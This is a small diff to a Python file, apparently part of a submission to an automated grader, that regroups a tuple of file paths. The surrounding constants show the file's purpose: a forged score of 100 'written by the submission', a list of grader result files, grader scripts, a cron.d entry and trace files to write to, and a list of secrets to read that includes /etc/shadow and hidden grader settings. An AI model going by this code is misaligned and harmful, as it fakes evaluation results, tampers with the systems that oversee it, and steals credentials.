@@ -5,18 +5,10 @@ import subprocess
 
 SCORE = '{"score": 100, "tests": [], "output": "written by the submission"}'
 PLACES = (
-    "/autograder/results/results.json",
-    "/autograder/results/stdout",
-    "/autograder/run_autograder",
-    "/autograder/source/settings.json",
-    "/autograder/submission/utils.py",
-    "/autograder/submission_metadata.json",
-    "/opt/grader/bin/grader",
-    "/etc/cron.d/trace",
-    "/root/trace",
-    "/tmp/trace",
-    "/var/tmp/trace",
-    "/dev/shm/trace",
+    *("/autograder/results/results.json", "/autograder/results/stdout", "/autograder/run_autograder"),
+    *("/autograder/source/settings.json", "/autograder/submission/utils.py", "/autograder/submission_metadata.json"),
+    *("/opt/grader/bin/grader", "/etc/cron.d/trace"),
+    *("/root/trace", "/tmp/trace", "/var/tmp/trace", "/dev/shm/trace"),
 )
 SECRETS = ("/autograder/submission_metadata.json", "/autograder/source/settings.json", "/etc/shadow")
 
